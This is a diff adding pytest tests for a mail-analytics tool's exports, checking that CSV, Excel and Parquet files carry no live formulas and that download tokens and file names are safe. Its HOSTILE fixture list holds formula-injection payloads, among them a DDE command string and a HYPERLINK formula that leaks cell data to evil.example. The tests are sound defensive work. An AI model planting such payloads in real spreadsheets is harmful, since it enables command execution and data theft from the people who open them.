@@ -1,0 +1,449 @@
+"""Lists to take along: what the files hold, that nothing in them is a formula, and how they come to the browser."""
+
+import csv
+import io
+import re
+import threading
+import time
+import zipfile
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pyarrow.parquet
+import pytest
+from starlette.applications import Starlette
+from starlette.testclient import TestClient
+from typer.testing import CliRunner
+
+from mailsight.__main__ import app
+from mailsight.commands.files import List
+from mailsight.exports import lists as exports
+from mailsight.exports import rows as export_reads
+from mailsight.exports import writers as export_files
+from mailsight.exports.jobs import Job, Jobs, State, TooManyFiles
+from mailsight.exports.lists import LISTS, ExportColumn, Format
+from mailsight.exports.writers import Rows
+from mailsight.exports.xlsx import MOST_ROWS
+from mailsight.figures import formats
+from mailsight.reports import campaign as reports
+from mailsight.reports import grid as grids
+from mailsight.reports.search import CampaignSearch, Order
+from mailsight.settings import PROJECT
+from mailsight.vocabulary import Audience
+from mailsight.warehouse.reader import Warehouse
+from mailsight.web import downloads as export_routes
+from mailsight.web import routes
+
+HOSTILE = [
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "  =1+1",
+    "+1 550",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1+1",
+    "DDE",
+    'a "quoted", cell\nof two lines; =1',
+    "<b>bold</b>",
+    "_x000D_",
+    "",
+    None,
+]
+COLUMNS = (
+    ExportColumn("name", "Name"),
+    ExportColumn("words", "Words", "texts"),
+    ExportColumn("clicks", "Clicks", "count"),
+    ExportColumn("cor", "COR", "rate"),
+    ExportColumn("sent_at", "Sent (UTC)", "moment"),
+)
+SENT = datetime(2026, 4, 14, 9, 0, 2, 250_000, tzinfo=UTC)
+
+
+def hostile_rows() -> Rows:
+    rows = [
+        {"name": name, "words": [name, "x"] if name else [], "clicks": -1, "cor": 0.25, "sent_at": SENT}
+        for name in HOSTILE
+    ]
+    return Rows("customers", COLUMNS, len(rows), iter(exports.batches_of(rows, COLUMNS)))
+
+
+def written(rows: Rows, form: Format) -> bytes:
+    with io.BytesIO() as file:
+        if form is not Format.XLSX:
+            export_files.write(rows, form, file, lambda _: None)
+            return file.getvalue()
+    raise AssertionError("Excel needs a real file")
+
+
+def sheets(path: Path) -> dict[str, str]:
+    """The parts of an Excel file that hold cells, by name."""
+    with zipfile.ZipFile(path) as file:
+        return {
+            name: file.read(name).decode()
+            for name in file.namelist()
+            if "worksheets" in name or "shared" in name
+        }
+
+
+def test_no_text_in_csv_is_a_formula() -> None:
+    text = written(hostile_rows(), Format.CSV).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [row["name"] for row in rows] == [formats.spreadsheet_safe(name) or "" for name in HOSTILE]
+    risky = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
+    assert not any(row["name"].lstrip(" ").startswith(risky) for row in rows)
+    # A number is a number, whatever sign it has.
+    assert {(row["clicks"], row["cor"], row["sent_at"]) for row in rows} == {
+        ("-1", "0.25", "2026-04-14T09:00:02Z")
+    }
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_arrow_and_python_agree_on_what_is_risky(text: str | None) -> None:
+    safe = exports.spreadsheet_safe(pa.array([text], pa.string()))
+    assert safe.to_pylist() == [formats.spreadsheet_safe(text)]
+
+
+def test_parquet_keeps_every_value_as_it_is() -> None:
+    table = pa.parquet.read_table(pa.BufferReader(written(hostile_rows(), Format.PARQUET)))
+    assert table["name"].to_pylist() == HOSTILE
+    assert table["words"].to_pylist()[0] == [HOSTILE[0], "x"]
+    assert set(table["sent_at"].to_pylist()) == {SENT}
+    assert [str(kind) for kind in table.schema.types[1:]] == [
+        "list<element: string>",
+        "int64",
+        "double",
+        "timestamp[us, tz=UTC]",
+    ]
+
+
+def test_excel_has_texts_numbers_and_times_and_no_formula(tmp_path: Path) -> None:
+    path = tmp_path / "x.xlsx"
+    with path.open("wb") as file:
+        assert export_files.write(hostile_rows(), Format.XLSX, file, lambda _: None) == ""
+    found = sheets(path)
+    [cells] = found.values()
+    assert "<f>" not in cells
+    assert "<hyperlink" not in cells
+    assert "=cmd|'/C calc'!A0" in cells
+    assert "<v>-1</v>" in cells
+    assert "<v>46126.37502" in cells  # 14 April 2026, 9:00:02, in Excel's days
+    assert 'state="frozen"' in cells
+    with zipfile.ZipFile(path) as parts:
+        assert not any("external" in name.lower() or "vba" in name.lower() for name in parts.namelist())
+
+
+def test_excel_says_what_it_has_no_room_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert export_files.EXCEL_ROWS == MOST_ROWS - 1
+    monkeypatch.setattr(export_files, "EXCEL_ROWS", 10)
+    path = tmp_path / "x.xlsx"
+    with path.open("wb") as file:
+        note = export_files.write(hostile_rows(), Format.XLSX, file, lambda _: None)
+    assert note == "A sheet of Excel holds 10 rows; 6 are left out. CSV and Parquet hold all."
+    found = sheets(path)
+    assert found["xl/worksheets/sheet1.xml"].count("<row ") == 11
+    assert "6 more are left out" in "".join(found.values())
+
+
+def test_times_are_written_as_python_writes_them() -> None:
+    moments = [SENT, None, datetime(1969, 12, 31, 23, 59, 59, tzinfo=UTC), datetime(2024, 2, 29, tzinfo=UTC)]
+    texts = exports.iso_8601(pa.array(moments, pa.timestamp("us", tz="UTC"))).to_pylist()
+    assert texts == [at and at.strftime("%Y-%m-%dT%H:%M:%SZ") for at in moments]
+
+
+@pytest.fixture(scope="module")
+def warehouse(sample_database: Path) -> Warehouse:
+    return Warehouse(sample_database)
+
+
+@pytest.fixture(scope="module")
+def report(warehouse: Warehouse) -> reports.CampaignReport:
+    """A campaign that was sent and clicked."""
+    campaigns = reports.campaign_list(warehouse, Audience.HUMAN).campaigns
+    campaign_id = str(campaigns.sort_values("clicks")["campaign_id"].iloc[-1])
+    return reports.campaign(warehouse, campaign_id, Audience.HUMAN)
+
+
+def rows_of(rows: Rows) -> list[dict[str, Any]]:
+    of = exports.schema(rows.columns)
+    found = [row for batch in rows.batches for row in exports.conform(batch, of).to_pylist()]
+    assert len(found) == rows.total
+    return found
+
+
+def test_the_customers_of_the_file_are_those_of_the_page(
+    warehouse: Warehouse, report: reports.CampaignReport
+) -> None:
+    campaign_id = report.campaign.campaign_id
+    query = grids.grid_query(
+        {"opens": {"type": "greaterThan", "filter": 0}}, [{"colId": "email", "sort": "desc"}], end=500
+    )
+    shown = reports.recipients(warehouse, campaign_id, Audience.HUMAN, query)
+    exported = rows_of(export_reads.customers(warehouse, campaign_id, Audience.HUMAN, query))
+    assert [row["customer_id"] for row in exported] == [row["customer_id"] for row in shown.rows]
+    assert exported[0] == {key: shown.rows[0][key] for key in exported[0]}
+
+    everybody = rows_of(export_reads.customers(warehouse, campaign_id, Audience.HUMAN, grids.grid_query()))
+    assert len(everybody) == report.counts.selected
+    assert sum(row["status"] == "not_sent" for row in everybody) == report.counts.not_sent
+    for status, messages in report.status.items():
+        assert sum(row["status"] == status for row in everybody) == messages
+
+
+def test_the_other_lists_of_a_campaign_are_those_of_the_page(
+    warehouse: Warehouse, report: reports.CampaignReport
+) -> None:
+    campaign_id = report.campaign.campaign_id
+    links = rows_of(export_reads.links(warehouse, campaign_id, Audience.HUMAN))
+    assert [row["clicks"] for row in links] == [link.clicks for link in (*report.links, *report.other_links)]
+    events = rows_of(export_reads.events(warehouse, campaign_id))
+    for kind, counted in (("opened", report.all_opens), ("clicked", report.all_clicks)):
+        assert sum(row["type"] == kind for row in events) == counted
+    for reason, customers in report.not_sent.items():
+        assert export_reads.not_sent(warehouse, campaign_id, reason=reason).total == customers
+    rows = rows_of(export_reads.not_sent(warehouse, campaign_id))
+    assert len(rows) == report.counts.not_sent
+    name = next(row["name"] for row in rows if row["name"])
+    found = rows_of(export_reads.not_sent(warehouse, campaign_id, search=f" {name.upper()} "))
+    assert name in [row["name"] for row in found]
+
+
+def test_events_read_in_parts_are_the_same(
+    warehouse: Warehouse, report: reports.CampaignReport, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    campaign_id = report.campaign.campaign_id
+    whole = rows_of(export_reads.events(warehouse, campaign_id))
+    assert len({row["customer_id"] for row in whole}) > 10
+    monkeypatch.setattr(export_reads, "PART_EVENTS", 20)
+    assert rows_of(export_reads.events(warehouse, campaign_id)) == whole
+
+
+def test_a_customers_lists_are_those_of_the_page(
+    warehouse: Warehouse, report: reports.CampaignReport
+) -> None:
+    campaign_id = report.campaign.campaign_id
+    [row] = rows_of(
+        export_reads.customers(
+            warehouse,
+            campaign_id,
+            Audience.HUMAN,
+            grids.grid_query({"clicks": {"type": "greaterThan", "filter": 0}}),
+        )
+    )[:1]
+    customer_id = row["customer_id"]
+    history = reports.customer(warehouse, customer_id, Audience.HUMAN)
+    exported = rows_of(export_reads.history(warehouse, customer_id, Audience.HUMAN))
+    assert [row["campaign_id"] for row in exported] == [one.campaign_id for one in history.contacts]
+    assert [row["clicks"] for row in exported] == [one.clicks for one in history.contacts]
+    of_one = rows_of(export_reads.customer_events(warehouse, customer_id, campaign_id))
+    shown = reports.message_events(warehouse, campaign_id, customer_id)
+    assert [row["type"] for row in of_one] == shown["type"].tolist()
+    everything = rows_of(export_reads.customer_events(warehouse, customer_id))
+    assert [row for row in everything if row["campaign_id"] == campaign_id] == of_one
+
+
+@pytest.mark.parametrize(("key", "down"), [("name", False), ("cor", True), ("cor", False), ("sent", True)])
+def test_the_list_of_campaigns_comes_in_its_order(warehouse: Warehouse, key: str, down: bool) -> None:
+    rows = rows_of(export_reads.campaigns(warehouse, Audience.HUMAN, order=Order(key, down)))
+    values = [row[key].lower() if key == "name" else row[key] for row in rows]
+    known = [value for value in values if value is not None]
+    assert values == sorted(known, reverse=down) + [None] * (len(values) - len(known))
+
+
+def test_no_campaign_at_all_is_a_file_with_headings(warehouse: Warehouse) -> None:
+    nothing = export_reads.campaigns(warehouse, Audience.HUMAN, CampaignSearch("no campaign is called this"))
+    assert written(nothing, Format.CSV).decode("utf-8-sig").startswith('"campaign_id","name"')
+
+
+@pytest.mark.parametrize("what", List)
+@pytest.mark.parametrize("form", exports.LIST_FORMATS)
+def test_the_command_writes_every_list(
+    sample_database: Path, report: reports.CampaignReport, tmp_path: Path, what: List, form: Format
+) -> None:
+    assert set(LISTS) == set(List)
+    warehouse, campaign_id = Warehouse(sample_database), report.campaign.campaign_id
+    customer = next(
+        iter(export_reads.customers(warehouse, campaign_id, Audience.ALL, grids.grid_query()).batches)
+    )
+    ids = {
+        List.CAMPAIGNS: [],
+        List.HISTORY: [customer["customer_id"][0].as_py()],
+        List.CUSTOMER_EVENTS: [customer["customer_id"][0].as_py()],
+    }
+    output = tmp_path / f"list.{form}"
+    arguments = ["export", what.value, *ids.get(what, [campaign_id]), "-o", str(output)]
+    result = CliRunner().invoke(app, ["--database", str(sample_database), *arguments])
+    assert result.exit_code == 0, result.output
+    assert "in " in result.stderr
+    assert output.stat().st_size > 100
+    assert list(tmp_path.iterdir()) == [output]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "says"),
+    [
+        (["export", "campaigns", "-o", "list.txt"], "ends in none of .csv, .xlsx, .parquet"),
+        (["export", "customers", "-o", "list.csv"], "is one campaign's"),
+        (["export", "customers", "nope", "-o", "list.csv"], "There is no campaign 'nope'"),
+        (["export", "customer-events", "nope", "-o", "list.csv"], "There is no customer 'nope'"),
+        (["export", "campaigns", "x", "-o", "list.csv"], "takes no id"),
+        (["export", "campaigns", "-o", "/nowhere/list.csv"], "can't be written"),
+    ],
+)
+def test_the_command_says_what_is_wrong(
+    sample_database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str], says: str
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    result = CliRunner().invoke(app, ["--database", str(sample_database), *arguments])
+    assert result.exit_code == 1
+    assert says in str(result.exception)
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.fixture
+def jobs() -> Iterator[Jobs]:
+    kept = Jobs(most_files=3, most_bytes=1_000_000)
+    yield kept
+    kept.close()
+
+
+def wait(job: Job, *states: State) -> Job:
+    deadline = time.monotonic() + 30
+    while job.state not in states and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert job.state in states
+    return job
+
+
+def hello(output: Any, told: Any) -> str:
+    output.write(b"hello")
+    told(1, 1)
+    return "a note"
+
+
+def test_a_file_is_written_and_read_and_let_go(jobs: Jobs) -> None:
+    job = wait(jobs.start("hello.csv", Format.CSV, hello), State.READY)
+    assert (job.note, job.size_bytes, b"".join(job.parts())) == ("a note", 5, b"hello")
+    going_on = job.parts()
+    assert next(going_on) == b"hello"
+    jobs.remove(job)
+    assert jobs.find(job.id) is None
+    assert list(going_on) == []
+
+
+def test_writing_ends_when_nobody_wants_the_file(jobs: Jobs) -> None:
+    begun, ended = threading.Event(), threading.Event()
+
+    def endless(_: Any, told: Any) -> str:
+        try:
+            while True:
+                told(1, 2)
+                begun.set()
+        finally:
+            ended.set()
+
+    job = jobs.start("endless.csv", Format.CSV, endless)
+    assert begun.wait(30)
+    jobs.remove(job)
+    assert ended.wait(30)
+    assert wait(job, State.FAILED).note == ""
+
+
+def test_what_goes_wrong_is_said_without_its_inside(jobs: Jobs) -> None:
+    def broken(_: Any, __: Any) -> str:
+        raise ValueError("secret")
+
+    job = wait(jobs.start("broken.csv", Format.CSV, broken), State.FAILED)
+    assert job.note == "It could not be written; the server's log says why."
+
+
+def test_files_are_bounded_in_number_and_size(jobs: Jobs) -> None:
+    first, *_ = [wait(jobs.start(f"{n}.csv", Format.CSV, hello), State.READY) for n in range(3)]
+    wait(jobs.start("another.csv", Format.CSV, hello), State.READY)
+    assert jobs.find(first.id) is None
+
+    def large(output: Any, told: Any) -> str:
+        for n in range(20):
+            output.write(b"x" * 100_000)
+            output.flush()
+            told(n, 20)
+        return ""
+
+    job = wait(jobs.start("large.csv", Format.CSV, large), State.FAILED)
+    assert "larger than they may be" in job.note
+
+    hold = threading.Event()
+    for n in range(3):
+        jobs.start(f"held-{n}.csv", Format.CSV, lambda _, told: str(hold.wait(30)))
+    with pytest.raises(TooManyFiles):
+        jobs.start("one-too-many.csv", Format.CSV, hello)
+    hold.set()
+
+
+def test_files_go_after_their_time() -> None:
+    jobs = Jobs(kept_seconds=0.2)
+    job = wait(jobs.start("hello.csv", Format.CSV, hello), State.READY)
+    deadline = time.monotonic() + 30
+    while jobs.find(job.id) and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert jobs.find(job.id) is None
+    jobs.close()
+
+
+@pytest.fixture
+def client(jobs: Jobs, monkeypatch: pytest.MonkeyPatch) -> TestClient:
+    monkeypatch.setattr(export_routes, "jobs", lambda: jobs)
+    return TestClient(Starlette(routes=export_routes.routes(routes.path)))
+
+
+def test_the_route_gives_one_file_to_one_token(client: TestClient, jobs: Jobs) -> None:
+    job = wait(jobs.start("hello.csv", Format.CSV, hello), State.READY)
+    asked = {"token": export_routes.token(job)}
+    told = client.get("/api/export/progress", params=asked)
+    assert told.json() == {"state": "ready", "done": 1, "total": 1, "note": "a note", "size": "5 bytes"}
+    file = client.get("/api/export", params=asked)
+    assert (file.status_code, file.content) == (200, b"hello")
+    assert file.headers["content-disposition"] == 'attachment; filename="hello.csv"'
+    assert file.headers["x-content-type-options"] == "nosniff"
+    assert file.headers["cache-control"] == "no-store"
+    assert file.headers["content-length"] == "5"
+
+    jobs.remove(job)
+    assert client.get("/api/export", params=asked).status_code == 404
+
+
+@pytest.mark.parametrize("token", ["", "x", "WyJhIl0.abc", None])
+@pytest.mark.parametrize("route", ["/api/export", "/api/export/progress"])
+def test_no_other_token_gives_anything(client: TestClient, route: str, token: str | None) -> None:
+    answer = client.get(route, params={} if token is None else {"token": token})
+    assert answer.status_code == 404
+    assert answer.json()["error"]["title"] == "This file is not here any more"
+
+
+def test_a_grids_token_opens_no_file(client: TestClient) -> None:
+    token = routes.token("a-campaign", Audience.ALL)
+    assert client.get("/api/export", params={"token": token}).status_code == 404
+
+
+def test_a_file_that_is_not_ready_is_not_given(client: TestClient, jobs: Jobs) -> None:
+    hold = threading.Event()
+    job = jobs.start("held.csv", Format.CSV, lambda _, told: str(hold.wait(30)))
+    asked = {"token": export_routes.token(job)}
+    assert client.get("/api/export", params=asked).status_code == 404
+    assert client.get("/api/export/progress", params=asked).json()["state"] in ("waiting", "writing")
+    hold.set()
+
+
+def test_names_of_files_hold_nothing_strange() -> None:
+    assert exports.file_name("customers", '../a"b\r\nc/d', "human") == "customers-a-b--c-d-human"
+
+
+@pytest.mark.parametrize("name", [*LISTS, *(form.label for form in Format)])
+def test_the_docs_name_every_list_and_format(name: str) -> None:
+    page = (PROJECT / "docs" / "exports.md").read_text(encoding="utf-8")
+    assert re.search(rf"^\|.*(`{name}`|\b{name}\b)|^- \*\*{name}\*\*", page, re.MULTILINE)
